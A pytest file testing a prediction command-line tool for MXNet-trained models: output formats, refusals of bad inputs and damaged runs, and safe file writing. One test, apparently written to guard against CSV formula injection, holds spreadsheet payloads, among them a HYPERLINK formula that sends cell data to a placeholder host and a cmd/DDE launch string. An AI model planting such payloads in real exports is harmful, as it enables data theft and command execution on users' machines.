"""``python -m train.predict``: what it says, and what it refuses, after runs of both programs."""

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import forks
import numpy as np
import pytest
from PIL import Image
from repeated import first_alone

from layers.engine import gluon, nd
from train import Refused, module
from train.__main__ import main
from train.data import Reading, load
from train.predict_program import main as predict_main
from train.prediction import Predictions
from train.rows import records, write_csv, write_json
from train.trained import refusing_networks

pytestmark = pytest.mark.slow_on("mxnet")

ROOT = Path(__file__).resolve().parents[2]
SHORT = ["--epochs", "2", "--hidden", "8"]
NAMES = ("blue, deep", "rot", "grün")
PROGRAMS = {"gluon": main, "module": module.main}


def table(path, target):
    """Two features of very different sizes, which tell three classes and a number."""
    rng = np.random.default_rng(0)
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(["id", "small", "large", target])
        for i in range(60):
            kind = i % 3
            small, large = 1e-4 * (kind + rng.normal() / 9), 1e6 + 1e4 * (kind + rng.normal() / 9)
            label = NAMES[kind] if target == "kind" else 1000 + 50 * kind
            writer.writerow([i, small, large, label])
    return path


@pytest.fixture(scope="module", params=first_alone(PROGRAMS))
def runs(request, tmp_path_factory):
    """The folders of a run with classes and of one with numbers, and their data."""
    root = tmp_path_factory.mktemp(request.param)
    ran = {}
    for target, more in (("kind", []), ("price", ["--task", "regression"])):
        data = table(root / f"{target}.csv", target)
        argv = ["--data", str(data), "--ignore", "id", "--epochs", "30", "--lr", "0.02"]
        out = root / target
        assert PROGRAMS[request.param]([*argv, *more, "--out", str(out)]) == 0
        ran[target] = out, data
    return ran


@pytest.fixture
def say(capsys):
    def say(*argv, status=0):
        assert predict_main([str(word) for word in argv]) == status
        found = capsys.readouterr()
        assert bool(found.err) == bool(status)
        return found.err if status else found.out

    return say


def rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_classes(say, runs):
    out, data = runs["kind"]
    found = rows(say(out, data))
    assert list(found[0]) == ["row", "class", "probability"]
    assert [row["row"] for row in found] == [str(i) for i in range(1, 61)]
    right = [row["class"] == NAMES[i % 3] for i, row in enumerate(found)]
    assert sum(right) >= 58  # which needs the scaling of each feature
    assert all(1 / 3 < float(row["probability"]) <= 1 for row in found)


def test_probabilities(say, runs):
    out, data = runs["kind"]
    for row in rows(say(out, data, "--probabilities")):
        every = {name: float(row[f"probability_{name}"]) for name in sorted(NAMES)}
        assert list(row)[3:] == [f"probability_{name}" for name in every]
        assert sum(every.values()) == pytest.approx(1, abs=1e-5)
        assert max(every, key=every.get) == row["class"]
        assert max(every.values()) == float(row["probability"])


def test_probabilities_are_made_where_they_are_asked_for():
    found = Predictions(["a", "b"], np.array([[0.25, 0.75]]), ())
    expected = {"row": 1, "class": "b", "probability": 0.75}
    assert list(records(found, False)) == [expected]
    assert list(records(found, True)) == [{**expected, "probabilities": {"a": 0.25, "b": 0.75}}]


def test_numbers(say, runs):
    out, data = runs["price"]
    found = rows(say(out, data))
    assert list(found[0]) == ["row", "value"]
    values = np.array([float(row["value"]) for row in found])
    assert np.abs(values - [1000 + 50 * (i % 3) for i in range(60)]).mean() < 20


def test_json(say, runs, tmp_path):
    out, data = runs["kind"]
    path = tmp_path / "a.json"
    said = say(out, data, "--format", "json", "--out", path)
    assert said == f"{path}: predictions for 60 samples\n"
    found = json.loads(path.read_text())
    assert len(found) == 60 and list(found[0]) == ["row", "class", "probability"]
    found = json.loads(say(out, data, "--format", "json", "--probabilities"))
    assert list(found[0]["probabilities"]) == sorted(NAMES)
    out, data = runs["price"]
    assert list(json.loads(say(out, data, "--format", "json"))[0]) == ["row", "value"]


def test_it_is_what_the_training_measured(say, runs):
    out, data = runs["kind"]
    config = json.loads((out / "config.json").read_text())
    held_out = load(str(data), how=Reading(ignore=("id",)))
    np.savez(out.parent / "x.npz", x=held_out.held_out_x)
    found = rows(say(out, out.parent / "x.npz"))
    right = [
        config["data"]["classes"][int(y)] == row["class"]
        for y, row in zip(held_out.held_out_y, found)
    ]
    assert np.mean(right) == pytest.approx(config["result"]["held_out_accuracy"])


def test_arrays_say_the_same_as_the_table(say, runs):
    out, data = runs["kind"]
    expected = say(out, data)
    x = np.loadtxt(data, delimiter=",", skiprows=1, usecols=(1, 2), encoding="utf-8")
    np.savez(out.parent / "x.npz", x=x, more=x)
    np.save(out.parent / "x.npy", x)
    assert say(out, out.parent / "x.npz") == say(out, out.parent / "x.npy") == expected


def test_columns_are_found_by_their_names(say, runs, tmp_path):
    out, data = runs["kind"]
    with data.open(encoding="utf-8") as file:
        lines = [[row["large"], "no number", row["small"]] for row in csv.DictReader(file)]
    with (tmp_path / "other.csv").open("w", newline="") as file:
        csv.writer(file).writerows([["large", "note", "small"], *lines])
    assert say(out, tmp_path / "other.csv") == say(out, data)


@pytest.mark.filterwarnings("ignore:Cannot decide type")  # MXNet's, of the type of data
def test_the_exported_graph_needs_nothing_else(runs):
    """Raw features in, scores and numbers in their own unit out."""
    x = nd.array([[0.0, 1e6], [2e-4, 1.02e6]])
    for target, check in (("kind", [0, 2]), ("price", [1000, 1100])):
        out, _ = runs[target]
        config = json.loads((out / "config.json").read_text())
        inputs = config["network"]["inputs"]
        files = [str(out / name) for name in ("model-symbol.json", "model-0000.params")]
        net = gluon.SymbolBlock.imports(files[0], inputs, files[1])
        found = net(*[x, nd.zeros(2)][: len(inputs)]).asnumpy()
        if target == "kind":
            names = [config["data"]["classes"][i] for i in found.argmax(axis=1)]
            assert names == [NAMES[i] for i in check]
        else:
            np.testing.assert_allclose(found[:, 0], check, atol=40)


@pytest.fixture(scope="module")
def digits(tmp_path_factory):
    out = tmp_path_factory.mktemp("digits")
    assert main(["--epochs", "8", "--out", str(out)]) == 0
    return out


def test_a_picture_of_a_digit(say, digits, tmp_path):
    from sklearn.datasets import load_digits

    found = load_digits()
    (tmp_path / "more").mkdir()
    for i in range(30):
        image = Image.fromarray((found.images[i] * 255 / 16).round().astype(np.uint8))
        image.save(tmp_path / "more" / f"{i:02}.png")
    (tmp_path / "more/notes.txt").write_text("no image")
    said = rows(say(digits, tmp_path / "more"))
    assert [Path(row["file"]).name for row in said] == [f"{i:02}.png" for i in range(30)]
    assert sum(int(row["class"]) == found.target[i] for i, row in enumerate(said)) >= 28
    (alone,) = rows(say(digits, tmp_path / "more/07.png"))
    assert alone["class"] == said[7]["class"]
    assert float(alone["probability"]) == pytest.approx(float(said[7]["probability"]), rel=1e-4)
    np.savez(tmp_path / "x.npz", x=found.images[:30])
    np.savez(tmp_path / "rows.npz", x=found.images[:30].reshape(30, 64))
    assert say(digits, tmp_path / "x.npz") == say(digits, tmp_path / "rows.npz")


@pytest.mark.slow
def test_images_are_resized_as_for_the_training(say, tmp_path, capsys):
    for kind, value in (("dark", 20), ("light", 220)):
        (tmp_path / "images" / kind).mkdir(parents=True)
        for i in range(6):
            noise = np.random.default_rng(i).integers(0, 20, (9 + i, 8, 3), np.uint8)
            Image.fromarray(noise + value).save(tmp_path / "images" / kind / f"{i}.png")
    argv = ["--data", str(tmp_path / "images"), "--image-size", "4", "--hidden", "8"]
    assert main([*argv, "--epochs", "100", "--lr", "0.02", "--out", str(tmp_path / "out")]) == 0
    capsys.readouterr()
    found = rows(say(tmp_path / "out", tmp_path / "images"))
    assert len(found) == 12
    for row in found:
        assert row["class"] == Path(row["file"]).parent.name


@pytest.mark.parametrize("first", [True, False], ids=["channels first", "channels last"])
def test_images_with_their_channels_first_or_last(say, tmp_path, capsys, first):
    rng = np.random.default_rng(0)
    x, y = rng.normal(size=(20, 5, 6, 3)), np.arange(20) % 2
    orders = x.transpose(0, 3, 1, 2), x
    np.savez(tmp_path / "a.npz", x=orders[not first], y=y)
    argv = ["--data", str(tmp_path / "a.npz"), *SHORT, "--out", str(tmp_path / "out")]
    assert main(argv) == 0
    capsys.readouterr()
    said = []
    for order in orders:
        np.save(tmp_path / "x.npy", order)
        said.append(say(tmp_path / "out", tmp_path / "x.npy"))
    assert said[0] == said[1]


@pytest.mark.parametrize("channels", [1, 3], ids=["gray", "colours"])
@pytest.mark.parametrize("first", [True, False], ids=["channels first", "channels last"])
def test_pictures_after_arrays_of_bytes(say, tmp_path, capsys, first, channels):
    x = np.random.default_rng(0).integers(0, 256, (20, 5, 6, channels)).astype(np.uint8)
    given = x.transpose(0, 3, 1, 2) if first else x
    np.savez(tmp_path / "a.npz", x=given, y=np.arange(20) % 2)
    np.savez(tmp_path / "low.npz", x=given // 2, y=np.arange(20) % 2)
    for data, out in (("a.npz", "out"), ("low.npz", "low")):
        assert main(["--data", str(tmp_path / data), *SHORT, "--out", str(tmp_path / out)]) == 0
    capsys.readouterr()
    (tmp_path / "images").mkdir()
    for i, image in enumerate(x):
        Image.fromarray(image.squeeze()).save(tmp_path / "images" / f"{i:02}.png")
    found = rows(say(tmp_path / "out", tmp_path / "images"))
    expected = rows(say(tmp_path / "out", tmp_path / "a.npz"))
    assert [row["probability"] for row in found] == [row["probability"] for row in expected]
    line = say(tmp_path / "low", tmp_path / "images", status=2)
    assert "which of its numbers their pixels are is not known" in line


def test_probabilities_of_numbers_are_refused(say, runs):
    out, data = runs["price"]
    assert say(out, data, "--probabilities", status=2) == (
        f"train.predict: --probabilities: the network of {out} predicts numbers and has no "
        "classes; expected no --probabilities\n"
    )


def test_what_cannot_be_predicted(say, runs, digits, tmp_path):
    out, data = runs["kind"]

    def refused(*argv):
        line = say(*argv, status=2)
        assert line.startswith("train.predict: ") and line.count("\n") == 1
        return line

    for folder in (tmp_path, tmp_path / "absent", data):
        expected = f"{folder}: it is no run: there is no model-symbol.json, model-0000.params, con"
        assert expected in refused(folder, data)
    (tmp_path / "a.csv").write_text("small,more\n1,2\n")
    assert "it has no column large; it has small, more" in refused(out, tmp_path / "a.csv")
    (tmp_path / "a.csv").write_text("small,large\n1,2\n1,x\n")
    line = refused(out, tmp_path / "a.csv")
    assert line.endswith("a.csv: line 3, column large is 'x'; expected a number\n")
    np.savez(tmp_path / "a.npz", x=np.ones((4, 3)))
    expected = "a.npz: x is (4, 3); expected (samples, 2)"
    assert expected in refused(out, tmp_path / "a.npz")
    assert "expected (samples, 64), or (samples, 8, 8)" in refused(digits, tmp_path / "a.npz")
    np.savez(tmp_path / "a.npz", z=np.ones((4, 3)))
    assert "it has 'z'; expected x, or x_test" in refused(out, tmp_path / "a.npz")
    Image.fromarray(np.zeros((5, 8), np.uint8)).save(tmp_path / "a.png")
    line = refused(digits, tmp_path / "a.png")
    assert "a.png has 8 x 5 pixels; expected 8 x 8, as the network was trained with; it wou" in line
    assert line.count("a.png") == 1
    line = refused(out, tmp_path / "absent.npy")
    assert line == f"train.predict: there is no {tmp_path / 'absent.npy'}\n"
    assert "the network was not trained with files of images" in refused(out, tmp_path / "a.png")
    (tmp_path / "a.csv").write_text("small,large\n1,2\n")
    line = refused(digits, tmp_path / "a.csv")
    assert "a.csv: x is (1, 2); expected (samples, 64), or (samples, 8, 8)" in line
    assert line.endswith("; the network was trained with images (8, 8)\n")
    assert "there is no such file" in refused(out, tmp_path / "absent.png")
    (tmp_path / "empty").mkdir()
    assert "it has no images" in refused(digits, tmp_path / "empty")
    assert "expected a table, an npz or npy file" in refused(out, __file__)
    assert "--out" in refused(out, data, "--out", tmp_path)
    assert "--out" in refused(out, data, "--out", tmp_path / "absent/a.csv")
    assert "--format: invalid choice" in refused(out, data, "--format", "xml")
    assert "required: RUN, DATA" in refused()


@pytest.mark.parametrize(
    "change",
    [
        lambda text: "",
        lambda text: "[]",
        lambda text: "{}",
        lambda text: "[" * 99_999,
        lambda text: text.replace('"outputs": "', '"outputs": "of '),
        lambda text: text.replace('"inputs"', '"out"'),
        lambda text: text.replace('"columns": [', '"columns": [3, '),
        lambda text: text.replace('"shape": [', '"shape": [-1, '),
        lambda text: text.replace('"shape": [', '"shape": "3", "was": ['),
        lambda text: text.replace('"shape": [', '"shape": [2000000000, '),
        lambda text: text.replace('"classes": [', '"classes": ["more", '),
    ],
    ids=[
        *("empty", "a list", "no keys", "deep", "outputs", "inputs", "columns"),
        *("shape", "text for a shape", "a huge shape", "classes"),
    ],
)
def test_a_config_that_is_damaged(say, runs, tmp_path, change):
    out, data = runs["kind"]
    shutil.copytree(out, tmp_path / "run")
    path = tmp_path / "run/config.json"
    path.write_text(change(path.read_text()))
    line = say(tmp_path / "run", data, status=2)
    assert str(tmp_path / "run") in line and line.count("\n") == 1


@pytest.mark.parametrize("name", ["model-symbol.json", "model-0000.params"])
def test_a_network_that_is_damaged(say, runs, tmp_path, name):
    out, data = runs["kind"]
    shutil.copytree(out, tmp_path / "run")
    content = (out / name).read_bytes()
    (tmp_path / "run" / name).write_bytes(content[: len(content) // 2])
    line = say(tmp_path / "run", data, status=2)
    assert f"{tmp_path / 'run'}: the network cannot be used: " in line and line.count("\n") == 1


def test_a_file_is_whole_or_not_there(say, runs, tmp_path, monkeypatch):
    out, data = runs["kind"]
    (tmp_path / "a.csv").write_text("before")

    def full(*_):
        yield "half"
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("train.rows.write_csv", full)
    line = say(out, data, "--out", tmp_path / "a.csv", "--overwrite", status=2)
    assert line == f"train.predict: --out {tmp_path / 'a.csv'}: No space left on device\n"
    assert [p.read_text() for p in tmp_path.iterdir()] == ["before"]
    for folder in (tmp_path, "."):
        line = say(out, data, "--out", folder, status=2)
        assert line == f"train.predict: --out {folder}: it is a folder\n"


def test_a_run_that_did_not_finish(say, runs, tmp_path, capsys):
    _, data = runs["kind"]
    argv = ["--data", str(data), "--ignore", "id", "--optimizer", "sgd", "--lr", "1e30"]
    assert main([*argv, "--out", str(tmp_path / "run")]) == 3
    capsys.readouterr()
    line = say(tmp_path / "run", data, status=2)
    expected = "the run in it did not finish: there is no model-symbol.json, model-0000.params"
    assert expected in line and line.count("\n") == 1


def test_lines_of_an_error_are_told_apart():
    with pytest.raises(Refused) as refused, refusing_networks("it"):
        raise ValueError("x is not registered\n  expected  `import x`\n\n")
    assert str(refused.value) == (
        "it: x is not registered; expected `import x`; "
        "with --operators FILE.py that file is run first"
    )


def test_no_file_is_replaced_unasked(say, runs, tmp_path):
    out, data = runs["kind"]
    samples, other = tmp_path / "samples.csv", tmp_path / "other.csv"
    shutil.copy(data, samples)
    other.write_text("before")
    (tmp_path / "link.csv").symlink_to(samples)
    for name in (samples, tmp_path / "link.csv"):
        line = say(out, samples, "--out", name, "--overwrite", status=2)
        assert line == (
            f"train.predict: --out {name}: it is the file of the samples; expected another\n"
        )
    assert samples.read_bytes() == data.read_bytes()
    line = say(out, samples, "--out", other, status=2)
    assert line == (
        f"train.predict: --out {other}: it exists already; expected --overwrite, or another file\n"
    )
    assert other.read_text() == "before"
    say(out, samples, "--out", other, "--overwrite")
    assert len(rows(other.read_text())) == 60


def test_from_the_command_line(engine, digits, tmp_path):
    np.savez(tmp_path / "x.npz", x=np.zeros((5000, 64)))
    line = f"set -o pipefail; {sys.executable} -m train.predict {digits} {tmp_path}/x.npz "
    clean = {name: value for name, value in os.environ.items() if name != "LAYERS_ENGINE"}

    def shell(end):
        return subprocess.run(
            ["bash", "-c", line + end],
            env={**clean, "PYTHONPATH": str(ROOT), "PYTHONUNBUFFERED": "1"},
            capture_output=True,
            text=True,
        )

    done = shell(f"--engine {engine} | head -n 2")
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.startswith("row,class,probability\n1,")
    done = shell(f"--engine {engine} >/dev/full")
    assert done.returncode == 2
    assert done.stderr == "train.predict: standard output: No space left on device\n"


def test_help(capsys):
    with pytest.raises(SystemExit) as left:
        predict_main(["--help"])
    text = capsys.readouterr().out
    assert left.value.code == 0 and max(map(len, text.splitlines())) <= 100
    for option in ("--out", "--format", "--probabilities", "--engine", "examples:", "exit status:"):
        assert option in text


def test_the_names_of_a_users_operators_stay_free(engine):
    """`--operators` may register `softmax`, before the network is read."""
    program = """
from layers.engine import mx, nd

class Plus(mx.operator.CustomOp):
    def forward(self, is_train, req, in_data, out_data, aux):
        self.assign(out_data[0], req[0], in_data[0] + 1)

for name in ("softmax", "regression"):
    @mx.operator.register(name)
    class PlusProp(mx.operator.CustomOpProp):
        def create_operator(self, ctx, shapes, dtypes):
            return Plus()

import train.prediction, train.exporting
for name in ("softmax", "regression"):
    print(nd.Custom(nd.ones(2), op_type=name).asnumpy().tolist())
"""
    env = {**os.environ, "PYTHONPATH": str(ROOT), "LAYERS_ENGINE": engine}
    done = forks.run(["-W", "ignore", "-c", program], env=env)
    assert done.stdout.split("\n") == ["[2.0, 2.0]", "[2.0, 2.0]", ""], done.stderr


@pytest.mark.parametrize("target", ["kind", "price"])
def test_a_run_of_before_whose_operators_have_other_names(say, runs, tmp_path, target):
    out, data = runs[target]
    shutil.copytree(out, tmp_path / "run")
    graph = tmp_path / "run/model-symbol.json"
    text = graph.read_text()
    for name in ("softmax", "regression"):
        text = text.replace(f'"train.{name}"', f'"{name}"')
    graph.write_text(text)
    assert say(tmp_path / "run", data) == say(out, data)


def test_images_without_any_object():
    found = Predictions(["a"], np.array([[[-1.0, 0, 0, 0, 0, 0]]]), ("a.png",), (8, 8))
    assert json.loads("".join(write_json([found], False))) == []
    columns = "class,probability,left,upper,right,lower\n"
    assert "".join(write_csv([found], False)) == f"file,{columns}"
    found = Predictions(["a"], np.array([[[0, 0.75, 0, 0, 0.5, 1]]]), (), (8, 8))
    expected = f"row,{columns}1,a,0.75,0.0,0.0,4.0,8.0\n"
    assert "".join(write_csv([found], False)) == expected
    assert len(json.loads("".join(write_json([found], False)))) == 1


def test_a_suffix_in_capitals(say, runs, tmp_path):
    out, data = runs["kind"]
    shutil.copy(data, tmp_path / "A.CSV")
    assert say(out, tmp_path / "A.CSV") == say(out, data)
    np.save(tmp_path / "x.npy", np.ones((2, 2)))
    (tmp_path / "x.npy").rename(tmp_path / "X.NPY")
    assert len(rows(say(out, tmp_path / "X.NPY"))) == 2


def test_names_are_no_formulas_of_a_spreadsheet():
    names = [
        '=HYPERLINK("http://x/?"&A1,"x")',
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "-a",
    ]
    numbers = ["-1", "+1.5", "-1e-3", "1=1", "a", "", "'=1"]
    names += [*numbers, "\r=1"]
    found = Predictions(names, np.eye(len(names), dtype="float32"), [*names])
    rows = [*csv.reader(io.StringIO("".join(write_csv([found], True)), newline=""))]
    assert rows[0][3:] == [f"probability_{name}" for name in [*names[:-1], r"\r=1"]]
    shown = [name if name in numbers else f"'{name}" for name in names[:-1]] + [r"\r=1"]
    assert [row[:2] for row in rows[1:]] == [[name, name] for name in shown]
    told = json.loads("".join(write_json([found], False)))
    assert [row["class"] for row in told] == names
